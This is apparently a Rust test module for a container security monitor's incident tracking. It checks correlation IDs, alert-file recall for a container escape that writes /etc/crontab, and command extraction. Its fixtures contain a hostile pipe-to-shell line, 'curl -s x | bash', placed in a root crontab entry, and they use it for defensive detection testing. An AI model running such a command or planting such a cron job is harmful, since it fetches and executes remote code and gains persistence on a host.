use super::*;

fn tie(what: TieKind, key: &str) -> Tie {
    Tie { what, key: key.into(), because: String::new(), path: None }
}

fn at(minutes: i64) -> Timestamp {
    Timestamp::UNIX_EPOCH + jiff::SignedDuration::from_mins(minutes)
}

#[test]
fn findings_with_a_key_in_common_have_one_id() {
    let mut incidents = Incidents::default();
    let first = incidents.id(&[tie(TieKind::Lineage, "a"), tie(TieKind::File, "f")], at(0));
    assert_eq!(first.len(), 12);
    assert_eq!(incidents.id(&[tie(TieKind::Lineage, "a")], at(1)), first);
    assert_eq!(incidents.id(&[tie(TieKind::Lineage, "b"), tie(TieKind::Line, "f")], at(600)), first, "by the file");
    assert_eq!(incidents.id(&[tie(TieKind::Lineage, "b")], at(601)), first, "and what it led to");
    assert_ne!(incidents.id(&[tie(TieKind::Lineage, "c")], at(601)), first);
}

#[test]
fn a_restart_gives_a_tree_the_same_id_and_a_quiet_hour_another() {
    let fresh = || Incidents::default().id(&[tie(TieKind::Lineage, "a")], at(0));
    assert_eq!(fresh(), fresh());
    let mut incidents = Incidents::default();
    let first = incidents.id(&[tie(TieKind::Lineage, "a")], at(0));
    let second = incidents.id(&[tie(TieKind::Lineage, "a")], at(61));
    assert_ne!(first, second);
    assert_eq!(incidents.id(&[tie(TieKind::Lineage, "a")], at(62)), second);
}

#[test]
fn what_was_written_to_the_alert_file_is_known_again() {
    use crate::incident::samples;
    let finding = samples::write("a", FindingKind::Escape, "abcdabcdabcd");
    let alert = samples::alert(crate::output::samples::row(&finding));
    let mut incidents = Incidents::default();
    incidents.recall(&alert);
    assert_eq!(incidents.files.len(), 1);
    assert_eq!((incidents.files[0].path.as_str(), incidents.files[0].container.as_str()), ("/etc/crontab", "web-1"));
    let now = alert.timestamp.parse().unwrap_or_default();
    assert_eq!(incidents.id(&[tie(TieKind::Line, "file:803:77")], now), "abcdabcdabcd");
}

#[test]
fn files_remembered_are_bounded() {
    let mut incidents = Incidents::default();
    for number in 0..3 * FILES {
        let path = format!("/etc/cron.d/{number}");
        incidents.wrote(HostFile { key: path.clone(), path, container: String::new(), at: at(0) });
    }
    assert_eq!(incidents.files.len(), FILES);
}

#[test]
fn a_command_stands_at_the_end_of_a_line() {
    let args = |text: &str| ["/bin/sh", "-c", text].map(smol_str::SmolStr::from);
    assert_eq!(command(&args(" curl -s x | bash ")), Some("curl -s x | bash"));
    assert_eq!(command(&args("ls")), None, "too short to say anything");
    assert_eq!(command(&["sh".into(), "-c".into()]), None);
    let crontab = "# jobs\n* * * * * root curl -s x | bash\n0 4 * * * root date +\\%F > /tmp/day\n";
    assert!(stands_in("curl -s x | bash", crontab));
    assert!(stands_in("date +%F > /tmp/day", crontab));
    assert!(!stands_in("curl -s x", crontab), "not the whole command");
}

#[test]
fn only_regular_files_of_the_same_file_system_are_read() {
    let folder = tempfile::tempdir().unwrap_or_else(|error| panic!("{error}"));
    let path = |name: &str| folder.path().join(name).display().to_string();
    let _ = std::fs::write(path("file"), "text");
    let _ = std::os::unix::fs::symlink(path("file"), path("link"));
    let _ = nix::unistd::mkfifo(path("fifo").as_str(), nix::sys::stat::Mode::S_IRUSR);
    let found = open(&path("file")).unwrap_or_else(|| panic!("not opened"));
    assert!(open(&path("link")).is_none() && open(&path("fifo")).is_none());
    let dev = device(&found).unwrap_or(0);
    let file =
        |dev: u32| HostFile { key: format!("file:{dev:x}:1"), path: path("file"), container: String::new(), at: at(0) };
    // Through the host's first process where that may be looked through, else from here.
    assert_eq!(read(&file(dev)).as_deref(), Some("text"));
    if std::fs::metadata("/proc/1/root/").is_err() {
        assert_eq!(read(&file(dev + 1)), None, "a file of the same path on another file system");
    }
}
